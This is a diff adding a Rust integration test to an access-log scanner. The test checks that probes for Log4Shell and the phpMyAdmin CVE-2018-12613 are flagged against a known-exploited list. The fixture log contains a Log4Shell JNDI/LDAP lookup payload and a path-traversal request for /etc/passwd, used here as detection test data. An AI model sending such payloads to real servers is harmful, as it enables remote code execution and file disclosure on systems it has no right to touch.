@@ -349,3 +349,56 @@ fn an_affected_installed_version_makes_the_probe_urgent_the_fixed_one_relevant()
         .expect("CVE listed");
     assert_eq!(c["affected"], false, "{c}");
 }
+
+/// A Log4Shell probe is reported known exploited from the shipped KEV list alone: no
+/// advisory database, no store; a probed CVE outside the catalog is not.
+#[test]
+fn probed_cves_are_flagged_known_exploited_without_any_import() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("access.log");
+    std::fs::write(
+        &log,
+        "203.0.113.8 - - [03/Nov/2025:00:00:01 +0100] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
+         203.0.113.9 - - [03/Nov/2025:00:00:02 +0100] \"GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n",
+    )
+    .unwrap();
+    let run = |format: &str| {
+        let out = scantriage()
+            .args(["analyze", "--no-store", "--no-progress", "--output", format])
+            .arg(&log)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let json = run("json");
+    let summary: Value = serde_json::from_str(json.lines().last().unwrap()).unwrap();
+    let probed = summary["summary"]["cves_probed"].as_array().unwrap();
+    let get = |id: &str| {
+        probed
+            .iter()
+            .find(|c| c["cve"] == id)
+            .unwrap_or_else(|| panic!("{id} not in {probed:?}"))
+    };
+    let log4shell = get("CVE-2021-44228");
+    assert_eq!(log4shell["known_exploited"], true, "{log4shell}");
+    assert_eq!(log4shell["affected"], false, "{log4shell}");
+    let pma = get("CVE-2018-12613");
+    assert_eq!(pma["known_exploited"], false, "{pma}");
+
+    let table = run("table");
+    let line = table
+        .lines()
+        .find(|l| l.contains("CVE-2021-44228"))
+        .expect("Log4Shell in the terminal report");
+    assert!(line.contains("known exploited"), "{line}");
+    let line = table
+        .lines()
+        .find(|l| l.contains("CVE-2018-12613"))
+        .unwrap();
+    assert!(!line.contains("known exploited"), "{line}");
+}
